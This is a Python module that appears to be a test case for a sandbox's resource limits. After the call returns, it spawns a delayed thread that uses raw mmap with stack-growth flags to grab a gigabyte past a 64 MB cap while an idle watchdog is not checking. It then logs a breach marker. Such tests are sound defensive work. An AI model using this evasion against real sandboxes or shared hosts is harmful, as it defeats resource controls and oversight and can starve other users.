"""Hoard memory after the call has returned.

Attacks: the host's memory, while the watchdog dozes.
How: a thread that begins to map and touch memory, as a stack if it may, half a second after the call.
Source: mmap(2) on MAP_GROWSDOWN; a watchdog that looks less often when idle.
Breach: the thread says on its log that it had a gigabyte.
"""

import ctypes
import threading
import time

from kernel import libc

GROUP, PAUSE_S, LIMITS = "resources", 2.0, {"memory_mb": 64}


def attack(outside):
    libc.mmap.restype = ctypes.c_void_p
    libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]

    def hoard():
        time.sleep(0.4)
        for _ in range(1000):
            address = libc.mmap(None, 1 << 20, 3, 0x122, -1, 0)
            if address in (None, 2**64 - 1):
                address = libc.mmap(None, 1 << 20, 3, 0x22, -1, 0)
            if address in (None, 2**64 - 1):
                return
            ctypes.memset(address, 1, 1 << 20)
        print("BREACH" + ": it had a gigabyte", flush=True)
        time.sleep(3)

    threading.Thread(target=hoard, daemon=True).start()
